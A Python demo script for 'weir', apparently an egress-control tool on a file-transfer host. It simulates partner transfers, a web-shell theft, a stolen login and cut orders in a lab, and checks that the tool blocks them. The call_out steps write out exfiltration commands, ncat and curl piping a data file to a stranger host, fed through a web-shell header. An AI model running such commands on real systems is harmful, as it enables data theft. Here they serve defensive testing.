#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only
"""
demo.py - weir on a transfer host, played and narrated (`make demo`, as root).

It raises the lab, guards it with policies/demo.yaml, and plays a night: transfers, a theft, an order, the
way back. After each step it compares what the far end received with what weir says, and ends with 1 if
anything differs.
"""
import os
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import far  # noqa: E402
import lab  # noqa: E402
from far import HUB  # noqa: E402
from guard import WEIR, Guard  # noqa: E402
from lab import HOSTS, TOP, wait_for  # noqa: E402

NORD, SUED, PAYER = "klinik-nord", "klinik-sued", "payer"
KIB, MIB = 1 << 10, 1 << 20
STRANGER_BUDGET, CLAIMS_BUDGET = 64 * KIB, 32 * MIB
WIDTHS = (44, 30, 40)


class Differs(Exception):
    """What the far end received is not what was to be, or not what weir says."""


def number(value):
    return format(value, ",")


def check(is_true, text):
    if not is_true:
        raise Differs(text)


class Demo:
    def __init__(self, the_lab):
        self.lab, self.guard = the_lab, Guard(the_lab)
        self.since = time.monotonic()
        self.failed = 0
        self.counts = {}
        self.order = self.other = None

    # ---- narrating ------------------------------------------------------------------------------

    def say(self, *columns):
        cells = "  ".join(text.ljust(width) for text, width in zip(columns, WIDTHS))
        print(("%5.1f  " % (time.monotonic() - self.since) + cells).rstrip()
              + ("  " + columns[3] if len(columns) > 3 else ""), flush=True)

    def chapter(self, title):
        print("\n  -- %s" % title, flush=True)

    def step(self, what, function, *arguments):
        """Plays one step; it returns (received, what weir says) or raises Differs."""
        try:
            received, said = function(*arguments)
            self.say(what, received, said, "ok")
        except (Differs, TimeoutError, RuntimeError, OSError) as problem:
            self.failed += 1
            self.say(what, "DIFFERS", "", "")
            print("       %s" % problem, flush=True)

    # ---- comparing ------------------------------------------------------------------------------

    def compare(self, partner):
        """acknowledged <= received <= sent, over all so far; in words."""
        count = self.counts[partner].settle()
        end = time.monotonic() + 3
        while True:
            said = self.guard.partner(partner)
            acked, sent = said["acked_bytes"], said["sent_bytes"]
            if sent >= count.ip_bytes - count.unowned or time.monotonic() > end:
                break
            time.sleep(0.05)
        check(count.dropped == 0, "the far end's counter lost packets")
        check(acked <= count.tcp_payload, "%s: weir says %s acknowledged, %s arrived" % (
            partner, number(acked), number(count.tcp_payload)))
        check(sent >= count.ip_bytes - count.unowned, "%s: weir says %s sent, %s arrived" % (
            partner, number(sent), number(count.ip_bytes)))
        check(sent <= count.ip_bytes * 1.02 + 65536, "%s: weir says %s sent, only %s arrived" % (
            partner, number(sent), number(count.ip_bytes)))
        return "%.1f <= %.1f <= %.1f MB" % (acked / 1e6, count.ip_bytes / 1e6, sent / 1e6)

    def whole(self, download, name="night", timeout=60):
        code = download.wait(timeout)
        size = os.path.getsize(self.lab.path("data", name))
        check(code == 0 and download.bytes == size, "exit %d, %s of %s bytes arrived" % (
            code, number(download.bytes), number(size)))
        wanted = far.Download(None, self.lab.path("data", name))
        check(download.sha256() == wanted.sha256(), "the content differs")
        return "%s B: all" % number(size)

    def targets(self):
        return [cut["target"] for cut in self.guard.cuts()]

    # ---- the steps ------------------------------------------------------------------------------

    def nightly(self, fetch, partner, family):
        received = self.whole(fetch(self.lab, partner, "night", HUB[family]))
        return received, self.compare(partner)

    def web_shell(self, address, family):
        """S01."""
        arriving = far.Count(self.lab, "stranger", address)
        theft = far.steal(self.lab, "stranger", "night", HUB[family], address, 3)
        self.whole(far.steal(self.lab, NORD, "night", HUB[family]))
        theft.wait()
        got = arriving.settle().payload
        arriving.stop()
        check(0 < theft.bytes <= STRANGER_BUDGET, "%s B of the file arrived" % number(theft.bytes))
        check(got <= STRANGER_BUDGET, "%s B arrived" % number(got))
        refused = self.guard.service("portal")["refused_bytes"]
        check(refused > 0, "weir says that nothing was refused")
        return "%s B of 20 MiB" % number(theft.bytes), \
            "refused: over 64 KiB/10m for a stranger"

    def call_out(self, command, port, address):
        """S05, S07."""
        thief = far.Sink(self.lab, "stranger", self.lab.hosts["stranger"].address(4, 0), port)
        answer = far.curl(self.lab, "stranger", "https://%s/" % HUB[4], address,
                          headers=["X-Shell-Run: " + command.format(
                              thief=self.lab.hosts["stranger"].v4, port=port,
                              file=self.lab.path("data", "night"))])
        check(answer.wait() == 0 and answer.bytes > 0, "the web shell did not answer")
        check(thief.bytes == 0 and thief.connections == 0, "%s B in %d connections arrived" % (
            number(thief.bytes), thief.connections))
        thief.task.kill()
        program = command.split()[0]
        wait_for(lambda: [event for event in self.guard.events()
                          if program in str(event) and str(port) in str(event)], 5, "the event of the refusal")
        return "0 B, 0 packets", "refused: portal calls nobody (%s)" % program

    def stolen_login(self):
        """S22."""
        self.whole(far.sftp_get(self.lab, PAYER, "night"))
        theft = far.sftp_get(self.lab, PAYER, "night")
        code = theft.wait(20)
        got = self.counts[PAYER].settle().tcp_payload
        check(code not in (0, -9), "the client did not fail (exit %d)" % code)
        check(got <= CLAIMS_BUDGET, "%s B arrived" % number(got))
        check(far.sftp_get(self.lab, PAYER, "night").wait(20) != 0, "another try came through")
        wait_for(lambda: [one for one in self.guard.cuts() if "claims" in one["target"]], 5, "the latch")
        check(got == self.counts[PAYER].tcp_payload or
              self.counts[PAYER].tcp_payload <= CLAIMS_BUDGET, "more came after the latch")
        return "%s B" % number(got), "severed at 32 MiB/1h"

    def cut_partner(self):
        """S24."""
        victim = far.sftp_get(self.lab, NORD, "big", kbits=480000)
        other = far.sftp_get(self.lab, SUED, "night", HUB[6], kbits=64000)
        wait_for(lambda: victim.bytes > 100 * MIB, 30, "the download to be under way")
        self.other = other
        self.order = self.guard.cut("partner:" + NORD, reason="found on a leak site")
        check(victim.wait(10) not in (0, -9), "the client was not told")
        self.counts[NORD].settle()
        check(victim.bytes < 1 << 30, "the whole file arrived")
        check(self.targets().count("partner:" + NORD) == 1, "weir does not list the cut")
        check(far.sftp_get(self.lab, NORD, "night").wait(4) != 0, "a new connection came through")
        return "%s B of 1 GiB" % number(victim.bytes), self.compare(NORD)

    def others_unaffected(self):
        check(self.other, "there is none")
        return self.whole(self.other), self.compare(SUED)

    def nothing_for(self, hosts):
        before = {host: self.counts[host].settle().payload for host in hosts}
        tries = [far.sftp_get(self.lab, host, "night") for host in hosts]
        time.sleep(1.5)
        for one in tries:
            one.process.kill()
            one.wait()
        for host in hosts:
            check(self.counts[host].payload == before[host], "%s got %s B" % (
                host, number(self.counts[host].payload - before[host])))
        return "0 B at %d hosts" % len(hosts)

    def cut_all(self):
        self.order = self.guard.cut("all", reason="drill: everything off")
        nothing = self.nothing_for((NORD, SUED, "stranger"))
        check("all" in self.targets(), "weir does not list the cut")
        return nothing, "cut: all"

    def lifeline(self, family):
        answer = far.ssh(self.lab, "admin", "echo still here", far.ADMIN[family]).stdout.strip()
        check(answer == "still here", "the admins' way in is dead")
        return "ssh answers: " + answer, "lifeline: above every cut"

    def reopen_part(self):
        self.guard.reopen("partner:" + SUED, reason="checked by phone")
        received = self.whole(far.sftp_get(self.lab, SUED, "night"))
        self.nothing_for((NORD,))
        cuts = [cut for cut in self.guard.cuts() if cut["target"] == "all"]
        check(len(cuts) == 1 and "partner:" + SUED in str(cuts[0]["except"]), "weir lists %s" % self.guard.cuts())
        return received, "cut: all, except partner:" + SUED

    def reopen(self, target):
        self.guard.reopen(target, reason="drill over")
        check(target not in self.targets(), "%s is still cut" % target)
        received = self.whole(far.sftp_get(self.lab, NORD, "night"))
        return received, self.compare(NORD)

    def play(self):
        for line in (("what happens", "far end received", "weir says (acked <= received <= sent)"),
                     ["-" * width for width in WIDTHS]):
            print(("-----  " if line[0][0] == "-" else "    s  ") + "  ".join(text.ljust(width) for text, width in zip(line, WIDTHS)).rstrip())
        self.chapter("the nightly transfers of approved partners pass")
        for fetch, partner, family in ((far.sftp_get, NORD, 4), (far.rsync_get, SUED, 4),
                                       (far.rsync_get, NORD, 6), (far.sftp_get, SUED, 6)):
            self.step("%s: %s over IPv%d" % (partner, fetch.__name__[:-4], family), self.nightly, fetch,
                      partner, family)
        self.chapter("a web shell answers a stranger with the customers' file (S01)")
        self.step("stranger: curl over IPv4", self.web_shell, HOSTS["stranger"][0][1], 4)
        self.step("stranger: curl over IPv6", self.web_shell, HOSTS["stranger"][3][2], 6)
        self.chapter("the same shell tries to send it out (S05, S07)")
        self.step("nginx's child: ncat", self.call_out, "ncat --send-only {thief} {port} < {file}", 4444,
                  HOSTS["stranger"][0][3])
        self.step("nginx's child: curl to port 443", self.call_out, "curl -sSk -m 3 -T {file} https://{thief}:{port}/",
                  443, HOSTS["stranger"][0][4])
        self.chapter("a login of an approved partner is stolen: ten times the volume (S22)")
        self.step("payer: sftp until it is severed", self.stolen_login)
        self.chapter("an order in the middle of a 1 GB download (S24)")
        self.step("klinik-nord: weir cut partner:klinik-nord", self.cut_partner)
        self.tell_order()
        self.step("klinik-sued: its download went on", self.others_unaffected)
        self.step("klinik-nord: weir reopen", self.reopen, "partner:" + NORD)
        self.chapter("everything off, and the way back")
        self.step("all: weir cut all", self.cut_all)
        self.tell_order()
        self.step("admin: ssh over IPv4", self.lifeline, 4)
        self.step("admin: ssh over IPv6", self.lifeline, 6)
        self.step("klinik-sued: reopened out of it, alone", self.reopen_part)
        self.step("all: weir reopen all", self.reopen, "all")
        self.chapter("what left, as weir will say when asked")
        for partner in (NORD, SUED, PAYER):
            self.step(partner, self.account, partner)

    def tell_order(self):
        if self.order:
            for line in self.order.stdout.strip().splitlines():
                print("       weir: " + line)
            self.order = None

    def account(self, partner):
        words = self.compare(partner)
        return "%s B on the wire" % number(self.counts[partner].ip_bytes), words

    def run(self):
        for host in (NORD, SUED, PAYER, "stranger"):
            self.counts[host] = far.Count(self.lab, host)
        with open(os.path.join(TOP, "policies", "demo.yaml"), encoding="utf-8") as policy:
            self.guard.start(policy.read())
        self.play()
        print("\n%s in %.0f s" % ("%d steps DIFFER" % self.failed if self.failed
                                  else "the far end and weir agree in every step", time.monotonic() - self.since))
        return 1 if self.failed else 0


def main():
    problem = lab.missing_right()
    if problem is None and not os.access(WEIR, os.X_OK):
        problem = "%s is not built" % WEIR
    if problem:
        print(problem, file=sys.stderr)
        return 1
    lab.exit_on_signals()
    try:
        with lab.Lab(("admin", "sftp", "portal")) as the_lab:
            print("weir on a transfer host: sshd, nginx and a batch job in cgroup %s" % the_lab.cgroup)
            print("policy: policies/demo.yaml; partners and strangers in namespaces of their own\n")
            return Demo(the_lab).run()
    except (lab.LabError, RuntimeError) as error:
        print(error, file=sys.stderr)
        return 1
    except KeyboardInterrupt:
        return 130


if __name__ == "__main__":
    sys.exit(main())
